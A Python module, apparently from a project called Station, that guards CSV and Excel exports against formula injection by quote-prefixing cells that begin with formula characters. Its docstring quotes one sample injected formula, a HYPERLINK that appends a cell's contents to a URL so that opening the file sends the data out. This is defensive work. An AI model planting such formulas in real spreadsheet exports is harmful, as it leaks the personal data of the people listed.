"""Text written into files that Excel and WPS open (CSV, .xlsx), kept as text.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab, carriage return or line feed, or their
full-width forms a Chinese input method types) is taken as a formula by spreadsheet programs: a
resident's name such as ``=HYPERLINK("http://…?"&A2, "…")`` would run when the export is opened and
send the data out. Every CSV and Excel writer in Station passes its cells through here.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def risky(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """A CSV cell as text: a leading apostrophe (what a spreadsheet shows as "this is text") before
    anything that would start a formula; other values unchanged."""
    return "'" + value if risky(value) else value  # type: ignore[operator]


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def xlsx_append(sheet: Any, values: Iterable[object]) -> None:
    """Append a row to an openpyxl sheet with every text kept as text: openpyxl itself stores a
    string starting with ``=`` as a formula, so such cells are marked as strings (and quote-prefixed,
    so editing the cell in Excel does not turn it into one either)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if risky(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
